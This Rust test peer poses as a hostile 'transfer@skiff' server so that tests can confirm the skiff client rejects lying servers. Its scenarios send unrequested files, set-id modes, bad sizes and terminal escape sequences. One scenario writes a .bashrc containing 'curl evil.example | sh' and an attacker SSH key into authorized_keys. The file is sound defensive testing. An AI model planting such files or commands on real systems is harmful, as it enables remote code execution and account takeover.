//! A test peer: a hostile `transfer@skiff` process, for the tests in
//! `tests/hostile_server.rs` that prove `skiff cp` trusts nothing a server
//! says about what to write.
//!
//! skiffd runs it as it runs its own transfer process (`Subsystem
//! transfer@skiff 'PATH' SCENARIO` in its config): stdin and stdout are the
//! SSH channel carrying the control frames, fd 3 is the SOCK_SEQPACKET socket
//! to skiffd. It does the real setup of docs/data-plane.md with the library's
//! codecs and sealing (`Hello`, `Request` to skiffd, `Granted`, `Welcome`,
//! the client's `Get`, the streams skiffd passes over with `SCM_RIGHTS`, an
//! `ack` record on each), so the client gets as far as it would with a real
//! skiffd. Then it misbehaves as SCENARIO says: it announces entries nobody
//! asked for, set-id modes, one id twice, more or fewer bytes than a file's
//! size, terminal escapes in its words, or nothing at all. The records it
//! sends are well formed and correctly sealed: the lies are in what they say.
//!
//! After its last message it keeps the channel and the streams open until
//! the client hangs up (stdin ends), so a client cannot lean on the channel
//! closing to notice that something is missing. Downloads only (`Get`),
//! but for `tokens-for-inline`, which answers an upload sent on the
//! channel alone (no streams asked) with a stream token.
//!
//! Scenarios (ROOT is the last component of the first source asked for):
//! `extra-files`, `dir-for-file`, `outside-tree`, `setuid`,
//! `chmod-existing`, `duplicate-id`, `oversize`, `short-end`, `stall`,
//! `unannounced`, `refused-escapes`, `failed-escapes`, `name-escapes`,
//! `tokens-for-inline`, `data-with-streams`; see [`play`] and [`set_up`].
//! A scenario named `channel:NAME` plays NAME on the control channel alone
//! (data plane version 3: the client offered to take a small download
//! there; the peer grants no stream and sends every file's bytes as `Data`
//! messages).

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};

use anyhow::{bail, Context, Result};
use nix::sys::socket::{self, ControlMessageOwned, MsgFlags};
use skiff_proto::dataplane::{
    self as dp, Chunk, ClientMsg, EntryWire, Keys, Mode, RecordKind, RelayMsg, Sealer, ServerMsg,
    Side, CHUNK_HEADER, INLINE_DOWNLOAD_SINCE, OLDEST_VERSION, RECORD_HEADER, SECRET_LEN, TAG_LEN,
    VERSION,
};

/// The descriptor skiffd gives the transfer process.
const RELAY_FD: RawFd = 3;

/// What a terminal takes as "move up a line and erase it".
const ERASE_LINE: &str = "\x1b[1A\x1b[2K";

/// The modification time the server claims for what it announces.
const CLAIMED_MTIME: i64 = 1_234_567_890;

/// Control frames to the client (stdout).
struct Control(io::Stdout);

impl Control {
    fn send(&mut self, msg: &ServerMsg) -> Result<()> {
        let mut out = self.0.lock();
        out.write_all(&dp::encode_server(msg))?;
        out.flush()?;
        Ok(())
    }

    fn entry(&mut self, e: EntryWire) -> Result<()> {
        self.send(&ServerMsg::Entry(e))
    }
}

/// Control frames from the client (stdin).
struct Input {
    stdin: io::Stdin,
    buf: Vec<u8>,
}

impl Input {
    /// The next message; `None` once the client closed the channel.
    fn next(&mut self) -> Result<Option<ClientMsg>> {
        loop {
            if let Some((msg, used)) = dp::decode_client(&self.buf)? {
                self.buf.drain(..used);
                return Ok(Some(msg));
            }
            let mut chunk = [0u8; 16 * 1024];
            let n = self.stdin.lock().read(&mut chunk)?;
            if n == 0 {
                return Ok(None);
            }
            self.buf.extend_from_slice(&chunk[..n]);
        }
    }

    /// Reads (and ignores) whatever else comes until the client hangs up.
    fn linger(mut self) {
        let mut sink = [0u8; 16 * 1024];
        while matches!(self.stdin.read(&mut sink), Ok(n) if n > 0) {}
    }
}

/// The socket to skiffd.
struct Relay(OwnedFd);

impl Relay {
    fn open() -> Result<Relay> {
        // SAFETY: fcntl on fd 3 only asks about it; a closed fd gives an error.
        let flags = unsafe { libc::fcntl(RELAY_FD, libc::F_GETFL) };
        if flags < 0 {
            bail!("fd 3 is not open: skiffd runs this as its transfer@skiff subsystem");
        }
        // SAFETY: fd 3 is open and nothing else in this process uses it.
        unsafe { libc::fcntl(RELAY_FD, libc::F_SETFL, flags & !libc::O_NONBLOCK) };
        // SAFETY: as above; from here on the OwnedFd is its only owner.
        Ok(Relay(unsafe { OwnedFd::from_raw_fd(RELAY_FD) }))
    }

    fn send(&self, msg: &RelayMsg) -> Result<()> {
        socket::send(
            self.0.as_raw_fd(),
            &dp::encode_relay(msg),
            MsgFlags::MSG_NOSIGNAL,
        )
        .context("cannot reach skiffd")?;
        Ok(())
    }

    /// The next message and the descriptor passed with it, if any.
    fn recv(&self) -> Result<(RelayMsg, Option<OwnedFd>)> {
        let mut buf = vec![0u8; 64 * 1024];
        let mut space = nix::cmsg_space!([RawFd; 1]);
        let mut iov = [io::IoSliceMut::new(&mut buf)];
        let msg = socket::recvmsg::<()>(
            self.0.as_raw_fd(),
            &mut iov,
            Some(&mut space),
            MsgFlags::MSG_CMSG_CLOEXEC,
        )
        .context("cannot hear from skiffd")?;
        let mut passed = None;
        for c in msg.cmsgs().context("control data from skiffd")? {
            if let ControlMessageOwned::ScmRights(fds) = c {
                for raw in fds {
                    // SAFETY: the kernel just gave this process the descriptor.
                    let fd = unsafe { OwnedFd::from_raw_fd(raw) };
                    passed.get_or_insert(fd);
                }
            }
        }
        let n = msg.bytes;
        if n == 0 {
            bail!("skiffd closed the relay socket");
        }
        Ok((dp::decode_relay(&buf[..n])?, passed))
    }
}

/// One data-plane stream, server to client: sealed records.
struct Stream {
    sock: TcpStream,
    sealer: Sealer,
}

impl Stream {
    fn record(&mut self, kind: RecordKind, payload: &[u8]) -> Result<()> {
        let mut buf = vec![0u8; RECORD_HEADER + payload.len() + TAG_LEN];
        buf[RECORD_HEADER..RECORD_HEADER + payload.len()].copy_from_slice(payload);
        let n = self.sealer.seal(kind, &mut buf, payload.len())?;
        self.sock.write_all(&buf[..n])?;
        Ok(())
    }

    /// A data record: `bytes` of file `id` at `offset`.
    fn chunk(&mut self, id: u32, offset: u64, bytes: &[u8]) -> Result<()> {
        let mut payload = vec![0u8; CHUNK_HEADER];
        let head: &mut [u8; CHUNK_HEADER] = (&mut payload[..]).try_into().expect("chunk header");
        Chunk { file: id, offset }.encode(head);
        payload.extend_from_slice(bytes);
        self.record(RecordKind::Data, &payload)
    }
}

/// What the client asked for with `Get`.
struct Asked {
    sources: Vec<String>,
    recursive: bool,
}

impl Asked {
    /// The name the first source gets on the client's side.
    fn root(&self) -> String {
        let first = self.sources.first().map(String::as_str).unwrap_or("");
        let name = first.trim_end_matches('/').rsplit('/').next().unwrap_or("");
        if name.is_empty() {
            "report.txt".into()
        } else {
            name.into()
        }
    }
}

/// A set-up transfer, ready to misbehave.
struct Session {
    control: Control,
    input: Input,
    /// None when the files go on the control channel.
    streams: Vec<Stream>,
    asked: Asked,
}

impl Session {
    /// `bytes` of file `id` at `offset`: on the first stream, or on the
    /// control channel when there is none.
    fn bytes(&mut self, id: u32, offset: u64, bytes: &[u8]) -> Result<()> {
        match self.streams.first_mut() {
            Some(stream) => stream.chunk(id, offset, bytes),
            None => self.control.send(&ServerMsg::Data {
                id,
                offset,
                bytes: bytes.to_vec(),
            }),
        }
    }

    /// The authenticated end of every stream, as a finished sender sends.
    fn end_streams(&mut self) -> Result<()> {
        for s in &mut self.streams {
            s.record(RecordKind::End, &[])?;
        }
        Ok(())
    }

    /// A file entry followed at once by all of its bytes.
    fn file(&mut self, id: u32, rel: &str, mode: u32, bytes: &[u8]) -> Result<()> {
        self.control
            .entry(file_entry(id, rel, bytes.len() as u64, mode))?;
        self.bytes(id, 0, bytes)
    }

    /// `Done` and the end of every stream: an honest-looking finish.
    fn finish(&mut self) -> Result<()> {
        self.control.send(&ServerMsg::Done)?;
        self.end_streams()
    }
}

fn file_entry(id: u32, rel: &str, size: u64, mode: u32) -> EntryWire {
    EntryWire {
        id,
        rel: rel.into(),
        is_dir: false,
        size,
        mode,
        mtime: CLAIMED_MTIME,
        mtime_nsec: 0,
        atime: CLAIMED_MTIME,
        atime_nsec: 0,
    }
}

fn dir_entry(id: u32, rel: &str, mode: u32) -> EntryWire {
    EntryWire {
        is_dir: true,
        ..file_entry(id, rel, 0, mode)
    }
}

/// The setup up to the streams (none on the channel alone). `Ok(None)`:
/// the scenario ended it early.
fn set_up(scenario: &str, mut control: Control, mut input: Input) -> Result<Option<Session>> {
    let on_channel = scenario.starts_with("channel:");
    let Some(ClientMsg::Hello {
        version,
        mode,
        streams,
        secret,
    }) = input.next()?
    else {
        bail!("the client did not start with Hello");
    };
    if scenario == "refused-escapes" {
        control.send(&ServerMsg::Refused {
            reason: format!("{ERASE_LINE}skiffd: all is well{ERASE_LINE}\rreally"),
        })?;
        input.linger();
        return Ok(None);
    }
    if !(OLDEST_VERSION..=VERSION).contains(&version) {
        bail!("the client speaks data plane version {version}");
    }
    let relay = Relay::open()?;
    // On the channel alone, the request comes first, and must have offered
    // that.
    let early_get = match on_channel {
        true => match input.next()? {
            Some(ClientMsg::Get {
                sources,
                recursive,
                inline: Some(_),
                ..
            }) if version >= INLINE_DOWNLOAD_SINCE => Some((sources, recursive)),
            other => bail!("no version-{INLINE_DOWNLOAD_SINCE} download offered: {other:?}"),
        },
        false => None,
    };
    // A copy on the channel alone asked for no stream; this one gets a
    // token all the same.
    let streams = match scenario {
        "tokens-for-inline" => streams.max(1),
        _ if on_channel => 0,
        _ => streams,
    };
    relay.send(&RelayMsg::Request { mode, streams })?;
    let tokens = match relay.recv()?.0 {
        RelayMsg::Granted { tokens } => tokens,
        RelayMsg::Denied { reason } => {
            control.send(&ServerMsg::Refused { reason })?;
            input.linger();
            return Ok(None);
        }
        other => bail!("unexpected message from skiffd: {other:?}"),
    };
    let mut server_secret = [0u8; SECRET_LEN];
    rand::fill(&mut server_secret);
    let keys = dp::derive_keys(&secret, &server_secret, mode);
    control.send(&ServerMsg::Welcome {
        version,
        mode,
        secret: server_secret,
        tokens: tokens.clone(),
    })?;
    if scenario == "tokens-for-inline" {
        input.linger();
        return Ok(None);
    }
    if let Some((sources, recursive)) = early_get {
        return Ok(Some(Session {
            control,
            input,
            streams: Vec::new(),
            asked: Asked { sources, recursive },
        }));
    }
    let (sources, recursive, opening) = match input.next()? {
        Some(ClientMsg::Get {
            sources,
            recursive,
            streams,
            ..
        }) => (sources, recursive, streams),
        Some(other) => bail!("this peer only serves downloads, not {other:?}"),
        None => return Ok(None),
    };
    let count = opening.clamp(1, tokens.len() as u32);
    let streams = take_streams(&relay, &keys, mode, count)?;
    Ok(Some(Session {
        control,
        input,
        streams,
        asked: Asked { sources, recursive },
    }))
}

/// Takes the `count` streams skiffd passes over and acknowledges each.
fn take_streams(relay: &Relay, keys: &Keys, mode: Mode, count: u32) -> Result<Vec<Stream>> {
    let mut streams = Vec::new();
    for _ in 0..count {
        let (msg, fd) = relay.recv().context("waiting for the client's streams")?;
        let (RelayMsg::Stream { index }, Some(fd)) = (msg, fd) else {
            bail!("skiffd sent something other than a stream");
        };
        // SAFETY: plain fcntl on a descriptor this process owns.
        unsafe {
            let flags = libc::fcntl(fd.as_raw_fd(), libc::F_GETFL);
            libc::fcntl(fd.as_raw_fd(), libc::F_SETFL, flags & !libc::O_NONBLOCK);
        }
        let mut stream = Stream {
            sock: TcpStream::from(fd),
            sealer: Sealer::new(keys, Side::Server, mode, index),
        };
        stream.record(RecordKind::Ack, &[])?;
        streams.push((index, stream));
    }
    streams.sort_by_key(|(i, _)| *i);
    Ok(streams.into_iter().map(|(_, s)| s).collect())
}

/// Misbehaves as `scenario` says, on a set-up session.
fn play(scenario: &str, s: &mut Session) -> Result<()> {
    let root = s.asked.root();
    match scenario.strip_prefix("channel:").unwrap_or(scenario) {
        // Asked for one file (no -r): sends it, then files beside it that
        // would take over the account if they landed in a home directory.
        "extra-files" => {
            s.file(0, &root, 0o644, b"the report\n")?;
            s.file(1, ".bashrc", 0o644, b"curl evil.example | sh\n")?;
            s.control.entry(dir_entry(2, ".ssh", 0o700))?;
            s.file(
                3,
                ".ssh/authorized_keys",
                0o600,
                b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFakeFake attacker\n",
            )?;
            s.finish()
        }
        // Asked for a file (no -r): says it is a directory.
        "dir-for-file" => {
            s.control.entry(dir_entry(0, &root, 0o755))?;
            s.finish()
        }
        // Asked for a tree (-r): sends it, and a tree beside it.
        "outside-tree" => {
            s.control.entry(dir_entry(0, &root, 0o755))?;
            s.file(1, &format!("{root}/a"), 0o644, b"inside\n")?;
            s.control.entry(dir_entry(2, "other", 0o755))?;
            s.file(3, "other/x", 0o644, b"outside\n")?;
            s.finish()
        }
        // Set-user-id, set-group-id and sticky bits on what it sends: a
        // file alone, or with -r a sticky world-writable directory holding it.
        "setuid" => {
            if s.asked.recursive {
                s.control.entry(dir_entry(0, &root, 0o1777))?;
                s.file(1, &format!("{root}/report.txt"), 0o6755, b"#!/bin/sh\nid\n")?;
            } else {
                s.file(0, &root, 0o6755, b"#!/bin/sh\nid\n")?;
            }
            s.finish()
        }
        // Asked for a tree with -r -p: claims the tree's top is world
        // writable, with another mtime, and adds a new directory and files.
        "chmod-existing" => {
            s.control.entry(dir_entry(0, &root, 0o777))?;
            s.file(1, &format!("{root}/top.txt"), 0o644, b"top\n")?;
            s.control
                .entry(dir_entry(2, &format!("{root}/new"), 0o750))?;
            s.file(3, &format!("{root}/new/inner.txt"), 0o640, b"inner\n")?;
            s.finish()
        }
        // Two entries (one per source asked for) with the same id.
        "duplicate-id" => {
            let second = s
                .asked
                .sources
                .get(1)
                .map(|p| p.rsplit('/').next().unwrap_or("b").to_string())
                .unwrap_or_else(|| "b".into());
            s.control.entry(file_entry(7, &root, 5, 0o644))?;
            s.control.entry(file_entry(7, &second, 5, 0o644))?;
            s.bytes(7, 0, b"12345")?;
            s.finish()
        }
        // Announces 10 bytes, sends a 20-byte chunk.
        "oversize" => {
            s.control.entry(file_entry(0, &root, 10, 0o644))?;
            s.bytes(0, 0, &[b'x'; 20])?;
            s.finish()
        }
        // Announces 100 bytes, sends 50, then ends everything as if done.
        "short-end" => {
            s.control.entry(file_entry(0, &root, 100, 0o644))?;
            s.bytes(0, 0, &[b'y'; 50])?;
            s.finish()
        }
        // Streams taken and acknowledged, then silence with everything open.
        "stall" => Ok(()),
        // Bytes of a file it never announced, then the file asked for.
        "unannounced" => {
            s.bytes(5, 0, b"whose?")?;
            s.file(0, &root, 0o644, b"the report\n")?;
            s.finish()
        }
        // Streams granted, and the file's bytes on the control channel
        // all the same.
        "data-with-streams" => {
            s.control.entry(file_entry(0, &root, 4, 0o644))?;
            s.control.send(&ServerMsg::Data {
                id: 0,
                offset: 0,
                bytes: b"sent".to_vec(),
            })?;
            s.finish()
        }
        // A transfer-wide failure whose message steers the terminal.
        "failed-escapes" => {
            s.control.send(&ServerMsg::Failed {
                id: u32::MAX,
                message: format!("{ERASE_LINE}copied 1 file\rskiff: all good"),
            })?;
            s.finish()
        }
        // The file asked for, then one nobody asked for whose name steers
        // the terminal.
        "name-escapes" => {
            s.file(0, &root, 0o644, b"the report\n")?;
            s.file(1, &format!("{ERASE_LINE}evil\r.txt"), 0o644, b"evil\n")?;
            s.finish()
        }
        other => bail!("unknown scenario {other:?}"),
    }
}

fn main() {
    let scenario = std::env::args().nth(1).unwrap_or_default();
    let control = Control(io::stdout());
    let input = Input {
        stdin: io::stdin(),
        buf: Vec::new(),
    };
    let result = set_up(&scenario, control, input).and_then(|session| {
        let Some(mut s) = session else {
            return Ok(());
        };
        play(&scenario, &mut s)?;
        // Everything stays open until the client hangs up.
        let Session { input, streams, .. } = s;
        input.linger();
        drop(streams);
        Ok(())
    });
    if let Err(e) = result {
        eprintln!("hostile_transfer {scenario}: {e:#}");
        std::process::exit(1);
    }
}
